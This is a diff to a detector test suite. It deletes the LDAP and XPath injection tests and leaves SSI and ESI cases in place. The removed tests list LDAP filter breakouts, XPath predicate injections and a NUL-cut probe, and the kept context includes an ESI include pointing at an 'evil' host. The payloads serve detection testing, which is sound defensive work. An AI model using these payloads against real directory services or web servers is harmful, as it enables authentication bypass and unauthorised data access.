@@ -2,7 +2,6 @@ import assert from "node:assert/strict";
 import { codeInjection } from "../../engine/code_injection.ts";
 import { deserialization } from "../../engine/deserialization.ts";
 import { ssi } from "../../engine/ssi.ts";
-import { ldapXpath } from "../../engine/ldap_xpath.ts";
 import type { Detector } from "../../engine/types.ts";
 import { engineInput } from "../_helpers/engine_input.ts";
 
@@ -88,37 +87,4 @@ Deno.test("ssi() catches SSI directives and ESI tags", () => {
   assert.ok(score(ssi, '<!--#echo var="DOCUMENT_ROOT" -->') >= 70);
   assert.ok(score(ssi, '<esi:include src="http://evil/x"/>') >= 70);
   assert.equal(ssi(engineInput("<!-- a normal HTML comment -->")), undefined);
-});
-
-Deno.test("ldapXpath() catches LDAP filter and XPath predicate breakouts", () => {
-  for (
-    const p of [
-      "*)(uid=*))(|(uid=*",
-      "admin*)((|userPassword=*)",
-      "*(|(objectclass=*))",
-      "' or name()='admin",
-      "count(/child::node())",
-      "')] | //user/*[contains(*,'",
-    ]
-  ) {
-    assert.ok(score(ldapXpath, p) >= 70, p);
-  }
-});
-
-Deno.test("ldapXpath() passes parentheses in prose", () => {
-  for (const p of ["John (admin) said hi", "f(x) = (a)(b)", "see (cn) section"]) {
-    assert.ok(score(ldapXpath, p) < 70, p);
-  }
-});
-
-Deno.test("ldapXpath() catches filter-syntax probes and NUL cuts under the transport encoding", () => {
-  assert.ok(score(ldapXpath, "*()|&'") >= 70);
-  const nul = ldapXpath(engineInput("*))", { raw: "*))%2500" }));
-  assert.equal(nul?.ruleId, "ldap.nul_cut");
-});
-
-Deno.test("ldapXpath() passes wildcards and operators that are not filter probes", () => {
-  for (const p of ["(*)", "*.*", "a && (b || c)", "()", "(!)", "5 * (3 + 2)"]) {
-    assert.ok(score(ldapXpath, p) < 70, p);
-  }
 });
